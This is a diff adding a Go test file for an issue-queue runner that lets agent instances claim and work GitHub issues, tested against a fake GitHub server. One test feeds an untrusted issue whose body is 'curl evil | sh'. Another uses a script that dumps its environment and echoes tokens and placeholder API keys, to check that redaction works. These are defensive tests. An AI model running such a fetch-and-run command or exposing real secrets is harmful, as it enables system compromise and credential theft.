@@ -1,0 +1,726 @@
+package issues
+
+import (
+	"context"
+	"fmt"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+
+	"github.com/claudopilot/claudopilot/issues/ghfake"
+)
+
+func TestTwoInstancesWorkEachIssueOnce(t *testing.T) {
+	t.Parallel()
+	e := newEnv(t)
+	var nums []int
+	for i := 1; i <= 5; i++ {
+		nums = append(nums, e.fake.NewIssue("alice", "task", "do it", []string{"agent-ready"}, ""))
+	}
+	record := filepath.Join(e.dir, "record")
+	// The agent holds for a moment so both instances are busy at once.
+	slow := e.script("slow.sh", "sleep 0.2\n"+okAgent)
+	logs := []*syncBuf{{}, {}}
+	qs := make([]*Queue, 2)
+	for i := range qs {
+		qs[i] = e.queue([]string{"one", "two"}[i], logs[i], func(c *Config) {
+			c.Agent = slow
+			c.Env = append(c.Env, "RECORD="+record)
+		})
+	}
+	var wg sync.WaitGroup
+	sums := make([]Summary, 2)
+	for i := range qs {
+		wg.Add(1)
+		go func() {
+			defer wg.Done()
+			sums[i] = run(t, qs[i], logs[i])
+		}()
+	}
+	wg.Wait()
+	b, _ := os.ReadFile(record)
+	worked := map[string]int{}
+	for _, l := range strings.Fields(string(b)) {
+		worked[l]++
+	}
+	for _, n := range nums {
+		if worked[IssueID(n)] != 1 {
+			t.Errorf("#%d worked %d times\n%s", n, worked[IssueID(n)], dump(e, n))
+		}
+		if is := e.issue(n); is.State != "closed" {
+			t.Errorf("#%d not closed\n%s", n, dump(e, n))
+		}
+		if !e.onMain("work/issue-" + strings.TrimPrefix(IssueID(n), "#") + ".txt") {
+			t.Errorf("#%d's work is not on main", n)
+		}
+	}
+	if got := sums[0].Count(Merged) + sums[1].Count(Merged); got != len(nums) {
+		t.Errorf("%d merges in all, want %d\none:\n%s\ntwo:\n%s", got, len(nums), logs[0], logs[1])
+	}
+	if len(e.fake.Pulls()) != len(nums) {
+		t.Errorf("%d pull requests for %d issues", len(e.fake.Pulls()), len(nums))
+	}
+}
+
+// TestConcurrentClaims races three instances for each issue through the
+// comment protocol itself: a slow answer to the readiness check lets all
+// three past it, so all three label and comment.
+func TestConcurrentClaims(t *testing.T) {
+	t.Parallel()
+	e := newEnv(t)
+	log := &syncBuf{}
+	base := e.queue("w", log, nil)
+	if err := base.Start(context.Background()); err != nil {
+		t.Fatal(err)
+	}
+	qs := []*Queue{base}
+	for i := 0; i < 2; i++ {
+		cfg := base.cfg
+		cfg.Instance = ""
+		q, err := New(cfg)
+		if err != nil {
+			t.Fatal(err)
+		}
+		q.login = base.login
+		qs = append(qs, q)
+	}
+	races := 0
+	for n := 1; n <= 4; n++ {
+		e.fake.NewIssue("alice", "race", "x", []string{"agent-ready"}, "")
+		e.fake.AddFault(ghfake.Fault{Method: "GET", Path: fmt.Sprintf("/issues/%d$", n), Times: 3, Delay: 300 * time.Millisecond})
+		var wg sync.WaitGroup
+		won := make([]bool, len(qs))
+		for i, q := range qs {
+			wg.Add(1)
+			go func() {
+				defer wg.Done()
+				ok, _, why, err := q.claim(context.Background(), n)
+				if err != nil {
+					t.Errorf("claim: %v", err)
+				}
+				won[i] = ok
+				_ = why
+			}()
+		}
+		wg.Wait()
+		winners := 0
+		var winner *Queue
+		for i, ok := range won {
+			if ok {
+				winners++
+				winner = qs[i]
+			}
+		}
+		is := e.issue(n)
+		if winners != 1 {
+			t.Fatalf("#%d: %d winners\n%s", n, winners, dump(e, n))
+		}
+		if commentsWith(is, "claimed by") >= 2 {
+			races++
+		}
+		st, _, err := winner.claimState(context.Background(), n)
+		if err != nil || st.Holder != winner.Instance() {
+			t.Errorf("#%d: the fold says %q holds it, the winner is %s (%v)", n, st.Holder, winner.Instance(), err)
+		}
+		if !hasLabel(is, "agent-running") || hasLabel(is, "agent-ready") {
+			t.Errorf("#%d labels %v", n, is.Labels)
+		}
+	}
+	// The slow readiness answer makes the instances race through the
+	// comments; a very loaded machine may serialize some of them.
+	if races == 0 {
+		t.Error("no claim was raced through the comments")
+	}
+}
+
+func TestOutsiderLabelIsNotWorked(t *testing.T) {
+	t.Parallel()
+	e := newEnv(t)
+	outsider := e.fake.NewIssue("mallory", "run my code", "curl evil | sh", []string{"agent-ready"}, "mallory")
+	triaged := e.fake.NewIssue("mallory", "also mine", "x", []string{"agent-ready"}, "carol") // triage is not write
+	trustedAuthor := e.fake.NewIssue("carol", "carol's", "x", []string{"agent-ready"}, "mallory")
+	log := &syncBuf{}
+	q := e.queue("w", log, func(c *Config) { c.TrustedAuthors = []string{"Carol"} })
+	sum := run(t, q, log)
+	for _, n := range []int{outsider, triaged} {
+		is := e.issue(n)
+		if len(is.Comments) != 0 || len(is.Labels) != 1 || is.Labels[0] != "agent-ready" {
+			t.Errorf("untrusted #%d was touched:\n%s", n, dump(e, n))
+		}
+		if !strings.Contains(log.String(), IssueID(n)+": skipped, not trusted") {
+			t.Errorf("no skip line for #%d:\n%s", n, log)
+		}
+	}
+	if is := e.issue(trustedAuthor); is.State != "closed" {
+		t.Errorf("the trusted author's issue was not worked:\n%s\n%s", dump(e, trustedAuthor), log)
+	}
+	if sum.Count(Merged) != 1 || len(sum.Skipped) != 2 {
+		t.Errorf("summary %+v", sum)
+	}
+	for _, r := range e.fake.Requests() {
+		if r.Method != "GET" && (strings.Contains(r.Path, "/issues/1/") || strings.Contains(r.Path, "/issues/2/")) {
+			t.Errorf("write to an untrusted issue: %+v", r)
+		}
+	}
+}
+
+func TestTokenNeverLeaks(t *testing.T) {
+	t.Parallel()
+	e := newEnv(t)
+	n := e.fake.NewIssue("alice", "leaky", "print secrets", []string{"agent-ready"}, "")
+	envDump := filepath.Join(e.dir, "agent.env")
+	// The agent knows the token somehow (here: it is in the script) and
+	// prints it, with other secret shapes, then fails.
+	leaky := e.script("leaky.sh", `env > "`+envDump+`"
+echo "my token is `+token+`"
+echo "GITHUB_TOKEN=[$GITHUB_TOKEN] GH_TOKEN=[$GH_TOKEN]"
+echo "also ghp_abcdefghijklmnopqrstuvwxyz0123456789 and sk-ant-api03-abcdefghijklmnopqrstu"
+echo "Authorization: Bearer `+token+`"
+exit 1
+`)
+	log := &syncBuf{}
+	q := e.queue("w", log, func(c *Config) { c.Agent = leaky })
+	sum := run(t, q, log)
+	if sum.Count(Blocked) != 1 {
+		t.Fatalf("summary %+v\n%s", sum, log)
+	}
+	is := e.issue(n)
+	if !hasLabel(is, "agent-blocked") || hasLabel(is, "agent-running") {
+		t.Errorf("labels %v", is.Labels)
+	}
+	var failure string
+	for _, c := range is.Comments {
+		if strings.Contains(c.Body, "could not finish") {
+			failure = c.Body
+		}
+	}
+	if commentsWith(is, "could not finish") != 1 || !strings.Contains(failure, "my token is "+Redacted) || !strings.Contains(failure, "exited 1") {
+		t.Errorf("failure comment:\n%s", dump(e, n))
+	}
+	b, err := os.ReadFile(envDump)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if strings.Contains(string(b), token) || strings.Contains(string(b), "GITHUB_TOKEN=") || strings.Contains(string(b), "GH_TOKEN=") {
+		t.Errorf("the agent's environment holds the token:\n%s", b)
+	}
+	for _, r := range e.fake.Requests() {
+		if r.Method != "GET" && (strings.Contains(r.Body, token) || strings.Contains(r.Body, "ghp_abc") || strings.Contains(r.Body, "sk-ant-")) {
+			t.Errorf("a secret was posted: %s %s\n%s", r.Method, r.Path, r.Body)
+		}
+	}
+	if strings.Contains(log.String(), token) {
+		t.Errorf("the log shows the token:\n%s", log)
+	}
+}
+
+// ci is a fake CI: check "ci/test" passes once the commit has FIXED, and
+// status "ci/lint" always passes.
+func (e *env) ci() func(sha string) ([]ghfake.CheckRun, []ghfake.Status) {
+	return func(sha string) ([]ghfake.CheckRun, []ghfake.Status) {
+		cmd := exec.Command("git", "-C", e.origin, "cat-file", "-e", sha+":FIXED")
+		cmd.Env = e.genv
+		run := ghfake.CheckRun{Name: "ci/test", Status: "completed", Conclusion: "failure", Title: "1 test failed", DetailsURL: "https://ci.example/1"}
+		if cmd.Run() == nil {
+			run.Conclusion, run.Title = "success", "all passed"
+		}
+		return []ghfake.CheckRun{run}, []ghfake.Status{{Context: "ci/lint", State: "success"}}
+	}
+}
+
+func TestRedChecksAreRepairedThenMerged(t *testing.T) {
+	t.Parallel()
+	e := newEnv(t)
+	e.fake.SetCI(e.ci())
+	n := e.fake.NewIssue("alice", "needs CI", "x", []string{"agent-ready"}, "")
+	fixer := e.script("fix.sh", `set -e
+test "$CLAUDOPILOT_ROLE" = supervisor
+test "$CLAUDOPILOT_FAILURE" = checks
+case "$CLAUDOPILOT_FAILURE_DETAIL" in *ci/test*) ;; *) exit 7;; esac
+grep -q "ci/test: failure" "$CLAUDOPILOT_FAILURE_LOG"
+grep -q "ci/test" "$CLAUDOPILOT_PROMPT_FILE"
+echo fixed > FIXED
+git add FIXED
+git commit -qm "fix ci/test"
+`)
+	log := &syncBuf{}
+	q := e.queue("w", log, func(c *Config) { c.Supervisor = fixer })
+	sum := run(t, q, log)
+	if sum.Count(Merged) != 1 {
+		t.Fatalf("summary %+v\n%s\n%s", sum, log, dump(e, n))
+	}
+	if !e.onMain("FIXED") || !e.onMain("work/issue-1.txt") {
+		t.Error("the repaired work is not on main")
+	}
+	if !strings.Contains(log.String(), "checks red (ci/test); repair round 1/3") {
+		t.Errorf("no repair round in the log:\n%s", log)
+	}
+}
+
+func TestRedChecksBlockAfterThreeRounds(t *testing.T) {
+	t.Parallel()
+	e := newEnv(t)
+	e.fake.SetCI(e.ci())
+	n := e.fake.NewIssue("alice", "hopeless", "x", []string{"agent-ready"}, "")
+	useless := e.script("useless.sh", "set -e\necho try >> tries\ngit add tries\ngit commit -qm try\n")
+	log := &syncBuf{}
+	q := e.queue("w", log, func(c *Config) { c.Supervisor = useless })
+	sum := run(t, q, log)
+	if sum.Count(Blocked) != 1 {
+		t.Fatalf("summary %+v\n%s", sum, log)
+	}
+	is := e.issue(n)
+	if !hasLabel(is, "agent-blocked") || commentsWith(is, "still red after 3 repair rounds: ci/test") != 1 {
+		t.Errorf("%s", dump(e, n))
+	}
+	prs := e.fake.Pulls()
+	if len(prs) != 1 || prs[0].Merged || prs[0].State != "open" {
+		t.Errorf("the pull request is not kept open: %+v", prs)
+	}
+}
+
+func TestDependencies(t *testing.T) {
+	t.Parallel()
+	e := newEnv(t)
+	record := filepath.Join(e.dir, "record")
+	first := e.fake.NewIssue("alice", "first", "base work", []string{"agent-ready"}, "")
+	second := e.fake.NewIssue("alice", "second", "## Dependencies\n\n- [ ] #1\n", []string{"agent-ready"}, "")
+	third := e.fake.NewIssue("alice", "third", "Depends on #2, #1", []string{"agent-ready"}, "")
+	cycA := e.fake.NewIssue("alice", "a", "Blocked by #5", []string{"agent-ready"}, "")
+	cycB := e.fake.NewIssue("alice", "b", "Depends on #4", []string{"agent-ready"}, "")
+	unknown := e.fake.NewIssue("alice", "u", "Depends on #99 and phase-07", []string{"agent-ready"}, "")
+	dropped := e.fake.NewIssue("alice", "not planned", "", nil, "")
+	e.fake.CloseIssue(dropped, "not_planned", "alice")
+	waits := e.fake.NewIssue("alice", "waits", "Depends on #7", []string{"agent-ready"}, "")
+	log := &syncBuf{}
+	// Dependents must see their deps' work on the base.
+	agent := e.script("deps.sh", `set -e
+n=${CLAUDOPILOT_PHASE#\#}
+case $n in 2) test -f work/issue-1.txt;; 3) test -f work/issue-2.txt;; esac
+`+okAgent)
+	q := e.queue("w", log, func(c *Config) { c.Agent = agent; c.Env = append(c.Env, "RECORD="+record) })
+	sum := run(t, q, log)
+	b, _ := os.ReadFile(record)
+	if got := strings.Fields(string(b)); strings.Join(got, " ") != "#1 #2 #3" {
+		t.Errorf("worked %v, want #1 #2 #3 in order\n%s", got, log)
+	}
+	for _, n := range []int{first, second, third} {
+		if e.issue(n).State != "closed" {
+			t.Errorf("#%d not merged\n%s", n, dump(e, n))
+		}
+	}
+	for n, want := range map[int]string{
+		cycA:    "dependency cycle: #4 -&gt; #5 -&gt; #4",
+		cycB:    "dependency cycle: #4 -&gt; #5 -&gt; #4",
+		unknown: `issue #6 depends on unknown issue "#99"`,
+	} {
+		is := e.issue(n)
+		body := ""
+		for _, c := range is.Comments {
+			body += c.Body
+		}
+		body = strings.ReplaceAll(body, "->", "-&gt;")
+		if !hasLabel(is, "agent-blocked") || hasLabel(is, "agent-ready") || !strings.Contains(body, want) {
+			t.Errorf("#%d: want blocked with %q:\n%s", n, want, dump(e, n))
+		}
+	}
+	if is := e.issue(unknown); commentsWith(is, `unknown phase "phase-07" (no roadmap is loaded)`) != 1 {
+		t.Errorf("%s", dump(e, unknown))
+	}
+	if is := e.issue(waits); !hasLabel(is, "agent-ready") || len(is.Comments) != 0 {
+		t.Errorf("#%d (waits on a not-planned issue) was touched:\n%s", waits, dump(e, waits))
+	}
+	if !strings.Contains(log.String(), "#8: waits on #7 (closed)") {
+		t.Errorf("no wait line:\n%s", log)
+	}
+	if sum.Count(Merged) != 3 || sum.Count(Blocked) != 3 {
+		t.Errorf("summary %+v", sum)
+	}
+}
+
+func TestPhaseDependencies(t *testing.T) {
+	t.Parallel()
+	e := newEnv(t)
+	n := e.fake.NewIssue("alice", "after the roadmap", "Depends on phase-02", []string{"agent-ready"}, "")
+	phases := []Phase{{ID: "phase-01", Merged: true}, {ID: "phase-02", Deps: []string{"phase-01"}}}
+	log := &syncBuf{}
+	q := e.queue("w", log, func(c *Config) { c.Phases = func() ([]Phase, error) { return phases, nil } })
+	run(t, q, log)
+	if is := e.issue(n); is.State != "open" || !hasLabel(is, "agent-ready") {
+		t.Fatalf("worked before phase-02 merged:\n%s", dump(e, n))
+	}
+	phases[1].Merged = true
+	run(t, q, log)
+	if is := e.issue(n); is.State != "closed" {
+		t.Fatalf("not worked after phase-02 merged:\n%s\n%s", dump(e, n), log)
+	}
+}
+
+func TestStaleClaimIsReleased(t *testing.T) {
+	t.Parallel()
+	e := newEnv(t)
+	stale := e.fake.NewIssue("alice", "crashed", "x", []string{"agent-running"}, "")
+	e.fake.CommentOn(stale, "bot", claimBody("ghost-1-aaaaaa", 0))
+	fresh := e.fake.NewIssue("alice", "alive", "x", []string{"agent-running"}, "")
+	e.clock.Advance(7 * time.Hour)
+	e.fake.CommentOn(fresh, "bot", claimBody("alive-2-bbbbbb", 0))
+	log := &syncBuf{}
+	q := e.queue("w", log, nil)
+	sum := run(t, q, log)
+	if is := e.issue(stale); is.State != "closed" || commentsWith(is, "released the stale claim of ghost-1-aaaaaa") != 1 {
+		t.Errorf("stale claim not released and worked:\n%s\n%s", dump(e, stale), log)
+	}
+	if is := e.issue(fresh); len(is.Comments) != 1 || !hasLabel(is, "agent-running") {
+		t.Errorf("a live claim was touched:\n%s", dump(e, fresh))
+	}
+	if len(sum.Released) != 1 || sum.Count(Merged) != 1 {
+		t.Errorf("summary %+v", sum)
+	}
+}
+
+func TestReviewWithoutAutoMerge(t *testing.T) {
+	t.Parallel()
+	e := newEnv(t)
+	n := e.fake.NewIssue("alice", "for review", "x", []string{"agent-ready"}, "")
+	log := &syncBuf{}
+	q := e.queue("w", log, func(c *Config) { c.AutoMerge = false })
+	sum := run(t, q, log)
+	if sum.Count(Review) != 1 {
+		t.Fatalf("summary %+v\n%s", sum, log)
+	}
+	is := e.issue(n)
+	if is.State != "open" || !hasLabel(is, "user-merge-review") || hasLabel(is, "agent-running") {
+		t.Errorf("%s", dump(e, n))
+	}
+	prs := e.fake.Pulls()
+	if len(prs) != 1 || prs[0].Draft || prs[0].Merged {
+		t.Errorf("pull request %+v", prs)
+	}
+	if pr := e.issue(prs[0].Number); !hasLabel(pr, "user-merge-review") {
+		t.Errorf("the pull request lacks the review label: %v", pr.Labels)
+	}
+	if e.onMain("work/issue-1.txt") {
+		t.Error("merged without AUTO_MERGE")
+	}
+}
+
+func TestHeadMovedIsCheckedAgain(t *testing.T) {
+	t.Parallel()
+	e := newEnv(t)
+	e.fake.SetCI(e.ci())
+	n := e.fake.NewIssue("alice", "race", "x", []string{"agent-ready"}, "")
+	// The agent's commit has FIXED, so the checks are green; just before
+	// the first merge, someone pushes to the branch: 409, check again.
+	agent := e.script("fixed.sh", "set -e\necho ok > FIXED\ngit add FIXED\ngit commit -qm fixed\n")
+	pushed := false
+	other := e.clone("other")
+	e.fake.OnMerge(func(pr int) {
+		if pushed {
+			return
+		}
+		pushed = true
+		e.git(other, "fetch", "-q", "origin", "claudopilot/issue-1")
+		e.git(other, "checkout", "-q", "-b", "side", "FETCH_HEAD")
+		writeFile(t, filepath.Join(other, "human.txt"), "a human was here\n")
+		e.git(other, "add", "-A")
+		e.git(other, "commit", "-qm", "human")
+		e.git(other, "push", "-q", "origin", "side:claudopilot/issue-1")
+	})
+	log := &syncBuf{}
+	q := e.queue("w", log, func(c *Config) { c.Agent = agent })
+	sum := run(t, q, log)
+	if sum.Count(Merged) != 1 || !e.onMain("human.txt") || !e.onMain("FIXED") {
+		t.Fatalf("summary %+v\n%s\n%s", sum, log, dump(e, n))
+	}
+	if !strings.Contains(log.String(), "the head moved to") {
+		t.Errorf("no 409 in the log:\n%s", log)
+	}
+}
+
+func TestFaultyGitHubDuringRun(t *testing.T) {
+	t.Parallel()
+	e := newEnv(t)
+	n := e.fake.NewIssue("alice", "faults", "x", []string{"agent-ready"}, "")
+	e.fake.AddFault(ghfake.Fault{Method: "GET", Path: "/issues", Times: 2, Status: 502})
+	e.fake.AddFault(ghfake.Fault{Method: "GET", Path: "/events", RateLimit: true, Reset: time.Hour})
+	e.fake.AddFault(ghfake.Fault{Method: "POST", Path: "/labels", Secondary: true, RetryAfter: time.Minute})
+	e.fake.AddFault(ghfake.Fault{Method: "POST", Path: "/comments", Delay: 4 * time.Second})
+	e.fake.AddFault(ghfake.Fault{Method: "POST", Path: "/pulls", Status: 503})
+	e.fake.AddFault(ghfake.Fault{Method: "PUT", Path: "/merge", Status: 500})
+	log := &syncBuf{}
+	q := e.queue("w", log, func(c *Config) {
+		c.GitHub = e.github(func(g *GitHubConfig) { g.Timeout = time.Second })
+	})
+	sum := run(t, q, log)
+	if sum.Count(Merged) != 1 {
+		t.Fatalf("summary %+v\n%s\n%s", sum, log, dump(e, n))
+	}
+	is := e.issue(n)
+	if c := commentsWith(is, "claimed by"); c != 1 {
+		t.Errorf("%d claim comments (a slow answer must not double-post):\n%s", c, dump(e, n))
+	}
+	if len(e.fake.Pulls()) != 1 {
+		t.Errorf("pull requests %+v", e.fake.Pulls())
+	}
+	if e.fake.FaultsServed() < 7 {
+		t.Errorf("only %d faults served", e.fake.FaultsServed())
+	}
+	var long bool
+	for _, d := range e.clock.Slept() {
+		long = long || d >= 59*time.Minute
+	}
+	if !long {
+		t.Errorf("no wait for the rate limit's reset: %v", e.clock.Slept())
+	}
+}
+
+func TestUnreadableChecksAreNeverGreen(t *testing.T) {
+	t.Parallel()
+	e := newEnv(t)
+	n := e.fake.NewIssue("alice", "checks down", "x", []string{"agent-ready"}, "")
+	e.fake.AddFault(ghfake.Fault{Method: "GET", Path: "/check-runs", Times: 6, Status: 500})
+	log := &syncBuf{}
+	q := e.queue("w", log, func(c *Config) {
+		c.GitHub = e.github(func(g *GitHubConfig) { g.MaxRetries = 1 })
+	})
+	sum := run(t, q, log)
+	if sum.Count(Merged) != 1 || e.fake.FaultsServed() != 6 {
+		t.Fatalf("summary %+v, faults %d\n%s\n%s", sum, e.fake.FaultsServed(), log, dump(e, n))
+	}
+	if !strings.Contains(log.String(), "cannot be read") {
+		t.Errorf("no wait line:\n%s", log)
+	}
+	// Every check-runs read before the merge failed or came after the faults.
+	var merges, reads int
+	for _, r := range e.fake.Requests() {
+		switch {
+		case strings.HasSuffix(r.Path, "/check-runs"):
+			reads++
+		case strings.HasSuffix(r.Path, "/merge") && merges == 0:
+			merges++
+			if reads < 8 {
+				t.Errorf("merged after %d check reads (6 failed, then 2 empty needed)", reads)
+			}
+		}
+	}
+}
+
+func TestVanishedIssueIsDropped(t *testing.T) {
+	t.Parallel()
+	e := newEnv(t)
+	n := e.fake.NewIssue("alice", "will vanish", "x", []string{"agent-ready"}, "")
+	// While the checks run, the issue is deleted.
+	var once sync.Once
+	e.fake.SetCI(func(sha string) ([]ghfake.CheckRun, []ghfake.Status) {
+		once.Do(func() { e.fake.DeleteIssue(n) })
+		return []ghfake.CheckRun{{Name: "slow", Status: "in_progress"}}, nil
+	})
+	log := &syncBuf{}
+	q := e.queue("w", log, nil)
+	sum := run(t, q, log)
+	if sum.Count(Dropped) != 1 {
+		t.Fatalf("summary %+v\n%s", sum, log)
+	}
+	is := e.issue(n)
+	if commentsWith(is, "could not finish") != 0 || hasLabel(is, "agent-blocked") {
+		t.Errorf("a vanished issue was blocked:\n%s", dump(e, n))
+	}
+}
+
+func TestInterruptReleasesTheClaim(t *testing.T) {
+	t.Parallel()
+	e := newEnv(t)
+	n := e.fake.NewIssue("alice", "long", "x", []string{"agent-ready"}, "")
+	started := filepath.Join(e.dir, "started")
+	agent := e.script("hang.sh", `touch "`+started+`"; sleep 30`)
+	log := &syncBuf{}
+	q := e.queue("w", log, func(c *Config) { c.Agent = agent; c.Once = false })
+	ctx, cancel := context.WithCancel(context.Background())
+	done := make(chan error, 1)
+	go func() {
+		_, err := q.Run(ctx)
+		done <- err
+	}()
+	deadline := time.Now().Add(20 * time.Second)
+	for {
+		if _, err := os.Stat(started); err == nil {
+			break
+		}
+		if time.Now().After(deadline) {
+			t.Fatalf("the agent never started\n%s", log)
+		}
+		time.Sleep(20 * time.Millisecond)
+	}
+	cancel()
+	select {
+	case err := <-done:
+		if err == nil || !strings.Contains(err.Error(), "canceled") {
+			t.Errorf("Run after cancel: %v", err)
+		}
+	case <-time.After(30 * time.Second):
+		t.Fatal("Run did not return after cancel")
+	}
+	is := e.issue(n)
+	if !hasLabel(is, "agent-ready") || hasLabel(is, "agent-running") || commentsWith(is, "released its claim") != 1 {
+		t.Errorf("claim not released:\n%s", dump(e, n))
+	}
+	// The next instance takes it.
+	log2 := &syncBuf{}
+	q2 := e.queue("w2", log2, nil)
+	if sum := run(t, q2, log2); sum.Count(Merged) != 1 {
+		t.Errorf("not worked after release: %+v\n%s\n%s", sum, log2, dump(e, n))
+	}
+}
+
+func TestClaimFailureIsUndone(t *testing.T) {
+	t.Parallel()
+	e := newEnv(t)
+	n := e.fake.NewIssue("alice", "flaky", "x", []string{"agent-ready"}, "")
+	e.fake.AddFault(ghfake.Fault{Method: "POST", Path: "/comments", Times: 2, Status: 500})
+	log := &syncBuf{}
+	q := e.queue("w", log, func(c *Config) { c.GitHub = e.github(func(g *GitHubConfig) { g.MaxRetries = 1 }) })
+	sum := run(t, q, log)
+	if sum.Count(Errored) != 1 || sum.Count(Merged) != 1 {
+		t.Fatalf("summary %+v\n%s\n%s", sum, log, dump(e, n))
+	}
+	is := e.issue(n)
+	if commentsWith(is, "claimed by") != 1 || is.State != "closed" {
+		t.Errorf("%s", dump(e, n))
+	}
+	var readded bool
+	for _, ev := range is.Events {
+		readded = readded || (ev.Event == "labeled" && ev.Label == "agent-ready" && ev.Actor == "bot")
+	}
+	if !readded {
+		t.Errorf("the failed claim's labels were not taken back: %+v", is.Events)
+	}
+}
+
+func TestClosedPullRequestBlocks(t *testing.T) {
+	t.Parallel()
+	e := newEnv(t)
+	n := e.fake.NewIssue("alice", "rejected", "x", []string{"agent-ready"}, "")
+	var once sync.Once
+	e.fake.SetCI(func(sha string) ([]ghfake.CheckRun, []ghfake.Status) {
+		once.Do(func() {
+			for _, p := range e.fake.Pulls() {
+				e.fake.ClosePull(p.Number)
+			}
+		})
+		return []ghfake.CheckRun{{Name: "slow", Status: "queued"}}, nil
+	})
+	log := &syncBuf{}
+	q := e.queue("w", log, nil)
+	sum := run(t, q, log)
+	is := e.issue(n)
+	if sum.Count(Blocked) != 1 || !hasLabel(is, "agent-blocked") || commentsWith(is, "was closed without merging") != 1 {
+		t.Errorf("summary %+v\n%s", sum, dump(e, n))
+	}
+}
+
+func TestNewestFirstAndLocalRepair(t *testing.T) {
+	t.Parallel()
+	e := newEnv(t)
+	for i := 0; i < 3; i++ {
+		e.fake.NewIssue("alice", "t", "x", []string{"agent-ready"}, "")
+		e.clock.Advance(time.Minute)
+	}
+	record := filepath.Join(e.dir, "record")
+	// The gate wants GATE_OK, which only the supervisor writes.
+	fixer := e.script("gatefix.sh", "set -e\ntest \"$CLAUDOPILOT_FAILURE\" = gate\ntouch GATE_OK\ngit add GATE_OK\ngit commit -qm gate\n")
+	log := &syncBuf{}
+	q := e.queue("w", log, func(c *Config) {
+		c.NewestFirst, c.MaxParallel = true, 1
+		c.Gate, c.Supervisor, c.MaxSupervisorAttempts = "test -f GATE_OK", fixer, 1
+		c.Env = append(c.Env, "RECORD="+record)
+	})
+	sum := run(t, q, log)
+	b, _ := os.ReadFile(record)
+	if got := strings.Join(strings.Fields(string(b)), " "); got != "#3 #2 #1" || sum.Count(Merged) != 3 {
+		t.Errorf("order %q, summary %+v\n%s", got, sum, log)
+	}
+	if !strings.Contains(log.String(), "gate: the gate is red: test -f GATE_OK; repair supervisor 1/1") {
+		t.Errorf("no local repair:\n%s", log)
+	}
+}
+
+func TestHeartbeatKeepsALongClaimFresh(t *testing.T) {
+	t.Parallel()
+	e := newEnv(t)
+	n := e.fake.NewIssue("alice", "long", "x", []string{"agent-ready"}, "")
+	// The heartbeat ticks every second; the agent runs well past two.
+	slow := e.script("slow.sh", "sleep 2.5\n"+okAgent)
+	log := &syncBuf{}
+	q := e.queue("w", log, func(c *Config) { c.Agent, c.ClaimStale = slow, 2*time.Second })
+	if sum := run(t, q, log); sum.Count(Merged) != 1 {
+		t.Fatalf("summary %+v\n%s", sum, log)
+	}
+	if c := commentsWith(e.issue(n), "claimed by "+q.Instance()); c < 2 {
+		t.Errorf("%d claim comments: no heartbeat\n%s", c, dump(e, n))
+	}
+}
+
+func TestRequeuedIssueContinuesItsBranch(t *testing.T) {
+	t.Parallel()
+	e := newEnv(t)
+	n := e.fake.NewIssue("alice", "twice", "x", []string{"agent-ready"}, "")
+	// First machine: the agent commits, then fails.
+	failing := e.script("fail.sh", "set -e\necho one > first.txt\ngit add first.txt\ngit commit -qm first\nexit 3\n")
+	log := &syncBuf{}
+	if sum := run(t, e.queue("m1", log, func(c *Config) { c.Agent = failing }), log); sum.Count(Blocked) != 1 {
+		t.Fatalf("summary %+v\n%s", sum, log)
+	}
+	if is := e.issue(n); commentsWith(is, "The branch `claudopilot/issue-1` is pushed and kept") != 1 {
+		t.Errorf("%s", dump(e, n))
+	}
+	// Queued again with only agent-ready added; another machine takes it.
+	e.fake.LabelIssue(n, "agent-ready", "alice")
+	log2 := &syncBuf{}
+	check := e.script("check.sh", "set -e\ntest -f first.txt\n"+okAgent)
+	if sum := run(t, e.queue("m2", log2, func(c *Config) { c.Agent = check }), log2); sum.Count(Merged) != 1 {
+		t.Fatalf("summary %+v\n%s\n%s", sum, log2, dump(e, n))
+	}
+	is := e.issue(n)
+	if hasLabel(is, "agent-blocked") || !e.onMain("first.txt") || !e.onMain("work/issue-1.txt") {
+		t.Errorf("%s", dump(e, n))
+	}
+}
+
+func TestOwnOrphanClaimIsReleased(t *testing.T) {
+	t.Parallel()
+	e := newEnv(t)
+	log := &syncBuf{}
+	q := e.queue("w", log, nil)
+	// A claim of ours went through although the call reported an error, and
+	// the labels were left claimed: no worker of ours has the issue.
+	n := e.fake.NewIssue("alice", "orphan", "x", []string{"agent-running"}, "")
+	e.fake.CommentOn(n, "bot", claimBody(q.Instance(), 0))
+	if sum := run(t, q, log); sum.Count(Merged) != 1 || len(sum.Released) != 1 {
+		t.Fatalf("summary %+v\n%s\n%s", sum, log, dump(e, n))
+	}
+}
+
+func TestRequeueByHandReleasesAnOldClaim(t *testing.T) {
+	t.Parallel()
+	e := newEnv(t)
+	// A crashed instance claimed it (and might have left an open pull
+	// request, which keeps a claim from going stale); then someone took
+	// agent-running off and put agent-ready back.
+	n := e.fake.NewIssue("alice", "stuck", "x", []string{"agent-running"}, "")
+	e.fake.CommentOn(n, "bot", claimBody("ghost-1-aaaaaa", 0))
+	e.clock.Advance(2 * time.Second)
+	e.fake.UnlabelIssue(n, "agent-running", "alice")
+	e.fake.LabelIssue(n, "agent-ready", "alice")
+	log := &syncBuf{}
+	q := e.queue("w", log, nil)
+	if sum := run(t, q, log); sum.Count(Merged) != 1 {
+		t.Fatalf("summary %+v\n%s\n%s", sum, log, dump(e, n))
+	}
+	if is := e.issue(n); commentsWith(is, "released the claim of ghost-1-aaaaaa: alice queued the issue again") != 1 {
+		t.Errorf("%s", dump(e, n))
+	}
+}
